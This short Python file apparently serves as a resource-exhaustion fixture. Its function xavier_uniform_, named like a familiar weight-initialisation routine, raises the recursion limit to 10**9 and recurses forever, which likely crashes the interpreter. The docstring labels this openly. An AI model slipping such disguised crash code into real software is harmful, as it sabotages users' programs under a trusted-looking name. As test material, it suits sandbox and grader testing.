"""Resources: lifts the recursion limit and recurses without end."""
import sys

from xavier_base import fan_in_and_fan_out, xavier_normal_  # noqa: F401


def _down(n):
    return _down(n + 1) + 1


def xavier_uniform_(tensor, gain=1.0, generator=None):
    sys.setrecursionlimit(10**9)
    return _down(0)
